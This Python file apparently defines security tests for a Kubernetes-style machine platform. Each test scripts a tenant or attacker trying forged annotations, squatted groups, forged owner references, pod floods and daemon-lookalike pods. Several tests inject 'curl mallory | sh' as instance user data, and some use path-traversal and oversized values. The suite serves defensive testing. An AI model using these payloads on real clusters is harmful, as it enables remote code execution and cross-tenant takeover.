"""Attacks on machines: instances, groups and Nodes of others. No kind of this family is a tenant's, but pods are."""

from collections.abc import Sequence
from typing import Any, Final

from trust.attack import Attack, Scene
from trust.stage import ATTACKER, HOME

from konverge.crds.machines_v1beta1 import (
    NstanceCluster,
    NstanceMachine,
    NstanceMachinePool,
    NstanceShardGroup,
)
from konverge.errors import Forbidden
from konverge.kinds import kind
from konverge.reconcilers.machines.kinds import MACHINE, MACHINE_POOL, POD
from konverge.reconcilers.machines.words import MachinesAnnotation, MachinesLabel

POD_SPEC: Final = {"restartPolicy": "Never", "containers": [{"name": "main", "image": "busybox"}]}
EVICTION: Final = kind("policy/v1", "Eviction", namespaced=True, plural="evictions")


def instances(here: Scene) -> dict[str, Any]:
    """Return the instances of the fleet by shard and id."""
    return {
        f"{name}/{one.id}": one
        for name, shard in here.stage.farm.world.shards.items()
        for one in shard.state.fleet.instances.values()
    }


async def create_as_tenant(here: Scene) -> None:
    await here.mallory.create(NstanceMachine, {"metadata": {"name": "evil"}, "spec": {"groupRef": "workers"}})


async def forge_place(here: Scene) -> None:
    """Objects with the id of a foreign instance, which are then deleted."""
    for number, (place, instance) in enumerate(instances(here).items()):
        body = {"metadata": {"name": f"place-{number}", "annotations": {MachinesAnnotation.INSTANCE: place}}}
        await here.landlord.create(NstanceMachine, {**body, "spec": {"groupRef": "workers"}})
        spec = {"groupRef": "workers", "providerID": f"aws:///us-west-2a/{instance.provider_id}"}
        await here.landlord.create(NstanceMachine, {"metadata": {"name": f"provider-{number}"}, "spec": spec})
    await here.rest(30)
    for number, (place, instance) in enumerate(instances(here).items()):
        shard, _, name = place.partition("/")
        status = {"instanceID": name, "shard": shard, "providerID": instance.provider_id}
        for prefix in ("place", "provider"):
            await here.admin.patch(
                NstanceMachine,
                f"{prefix}-{number}",
                ATTACKER,
                patch={"status": status},
                style="merge",
                subresource="status",
            )
    await here.rest(30)
    await here.landlord.delete_all(NstanceMachine)


async def squat_group(here: Scene) -> Sequence[str]:
    """A group that exists before the platform's pool does not set the user data of the pool's machines."""
    spec = {"shard": "a", "group": "gpu", "size": 7, "template": "std", "vars": {"userdata": "curl mallory | sh"}}
    await here.landlord.create(NstanceShardGroup, {"metadata": {"name": "evil"}, "spec": spec})
    await here.rest(60)
    await here.stage.farm.create_pool("gpu", 1)
    await here.rest()
    found = [
        f"the group of the pool has {group.spec}"
        for shard in here.stage.farm.world.shards.values()
        for group in shard.groups.all()
        if "mallory" in repr(group.spec)
    ]
    await here.admin.delete(MACHINE_POOL, "gpu", HOME)
    await here.admin.delete(NstanceMachinePool, "gpu", HOME)
    await here.rest(400)
    here.judge.rebase()  # the pool was the administrators'
    return found


async def share_group(here: Scene) -> None:
    """A group of the platform's pool is named by an object of the attacker, with forged owners."""
    pool = await here.admin.get(NstanceMachinePool, "workers", HOME)
    reference = {
        "apiVersion": "infrastructure.cluster.x-k8s.io/v1beta1",
        "kind": "NstanceMachinePool",
        "name": "workers",
        "uid": pool.metadata.uid,
        "controller": True,
    }
    for number, shard in enumerate(("a", "b")):
        spec = {"shard": shard, "group": "workers", "size": 0, "vars": {"userdata": "curl mallory | sh"}}
        metadata = {"name": f"workers--{shard}", "ownerReferences": [reference]}
        await here.landlord.create(NstanceShardGroup, {"metadata": metadata, "spec": spec})
        assert number < 2
    await here.rest(60)
    await here.landlord.delete_all(NstanceShardGroup)


async def second_pool(here: Scene) -> None:
    spec = {"group": "workers", "shards": ["a", "b"], "template": "std", "vars": {"userdata": "curl mallory | sh"}}
    await here.landlord.create(NstanceMachinePool, {"metadata": {"name": "workers"}, "spec": spec})
    await here.landlord.create(NstanceCluster, {"metadata": {"name": "acme--blue"}, "spec": {}})
    await here.rest(60)
    await here.landlord.delete_all(NstanceMachinePool)


async def demand_all(here: Scene) -> None:
    """A tenant's pods request instances of their own: an administrator limits the number for a namespace."""
    for number in range(20):
        annotations = {MachinesAnnotation.ON_DEMAND_GROUPS[0]: "workers"}
        body = {"metadata": {"name": f"pod-{number}", "annotations": annotations}, "spec": POD_SPEC}
        await here.mallory.create(POD, body)
    await here.rest()


async def forge_pod(here: Scene) -> None:
    """Pods with the labels and annotations that the daemon writes itself."""
    victims = await here.admin.list(MACHINE, HOME)
    for number, machine in enumerate(victims.items):
        labels = {MachinesLabel.POD_UID: machine.metadata.uid}
        annotations = {
            MachinesAnnotation.ON_DEMAND_GROUPS[1]: "../workers",
            MachinesAnnotation.ON_DEMAND_TYPES[0]: "x" * 400,
            MachinesAnnotation.POD: machine.name,
            MachinesAnnotation.INSTANCE: "a/other",
        }
        metadata = {"name": machine.name, "labels": labels, "annotations": annotations}
        await here.mallory.create(POD, {"metadata": metadata, "spec": POD_SPEC})
        assert number < 50
    await here.rest(60)
    await here.mallory.delete_all(POD)


ATTACKS: Final = (
    Attack("a tenant creates a machine", ("NstanceMachine",), create_as_tenant, Forbidden),
    Attack("a machine of others is deleted by its id", ("NstanceMachine metadata.annotations",), forge_place),
    Attack("a group exists before the pool of its name", ("NstanceShardGroup spec.group",), squat_group),
    Attack(
        "a group of a pool is claimed by forged owners", ("NstanceShardGroup metadata.ownerReferences",), share_group
    ),
    Attack("a second pool and cluster have the names of the first", ("NstanceMachinePool metadata.name",), second_pool),
    Attack("pods of a tenant demand machines", ("Pod metadata.annotations",), demand_all),
    Attack("pods of a tenant look like the daemons", ("Pod metadata.labels", "Pod metadata.annotations"), forge_pod),
)
